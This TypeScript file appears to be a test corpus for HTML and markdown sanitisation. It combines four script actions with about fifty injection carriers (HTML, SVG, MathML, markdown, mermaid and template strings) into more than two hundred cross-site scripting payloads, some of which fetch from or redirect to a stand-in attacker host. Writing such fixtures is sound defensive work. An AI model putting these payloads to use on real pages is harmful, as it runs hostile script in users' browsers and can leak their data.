/** What strangers write where they hope that somebody's browser runs it, or leaves for another host. */

const DEEDS = [
  'globalThis.ran=1',
  "fetch('https://evil.example/x')",
  "alert('ran')",
  "location='https://evil.example/'",
] as const;

/** `%` stands for the script. */
const CARRIERS = [
  '<script>%</script>',
  '</script><script>%</script>',
  '<SCRIPT SRC=//evil.example/x.js>%</SCRIPT>',
  '<script type=module>%</script>',
  '<img src=x onerror="%">',
  '<img src=https://evil.example/p.png onload="%">',
  '<image href=x onerror=%>',
  '<svg onload="%">',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin="%" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:%"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:%"></iframe></foreignObject></svg>',
  '<math><mtext><img src=x onerror="%"></mtext></math>',
  '<math><mi xlink:href="javascript:%">x</mi></math>',
  '<iframe src="javascript:%"></iframe>',
  '<iframe srcdoc="<script>%</script>"></iframe>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<body onload="%">',
  '<details open ontoggle="%"><summary>x</summary></details>',
  '<video><source onerror="%"></video>',
  '<audio src=x onerror="%">',
  '<input autofocus onfocus="%">',
  '<select autofocus onfocus="%"></select>',
  '<marquee onstart="%">x</marquee>',
  '<form action="javascript:%"><button>x</button></form>',
  '<button formaction="javascript:%" form=x>x</button>',
  '<a href="javascript:%">x</a>',
  '<a href="java\tscript:%">x</a>',
  '<a href="&#106;avascript:%">x</a>',
  '<a href="data:text/html,<script>%</script>">x</a>',
  '<a href="vbscript:%">x</a>',
  '<base href="https://evil.example/"><script src=x.js>%</script>',
  '<meta http-equiv=refresh content="0;url=javascript:%">',
  '<link rel=stylesheet href=https://evil.example/x.css><b onclick="%">',
  '<style>@import "https://evil.example/x.css";</style><i onmouseover="%">x</i>',
  '<div style="background:url(https://evil.example/x)" onpointerenter="%">x</div>',
  '<mark data-claim="0" onclick="%" tabindex=0 autofocus onfocus="%">x</mark>',
  '[x](javascript:%)',
  '[x](<java\nscript:%>)',
  '![x](https://evil.example/p.png "%")',
  '![x][1]\n\n[1]: javascript:%',
  '<javascript:%>',
  '```mermaid\nclick A "javascript:%"\n```',
  '```mermaid\nxychart-beta\n  title "<img src=x onerror=%>"\n```',
  '<!--><img src=x onerror="%">-->',
  '--><img src=x onerror="%"><!--',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '"><img src=x onerror="%"> \'><svg onload="%">',
  '{"__html":"<img src=x onerror=%>","dangerouslySetInnerHTML":{"__html":"<script>%</script>"}}',
  '{{constructor.constructor("%")()}} #{%} <%= % %>',
] as const;

/** More than two hundred, each once. */
export function scriptAttacks(): string[] {
  return CARRIERS.flatMap((carrier) => DEEDS.map((deed) => carrier.replaceAll('%', deed)));
}
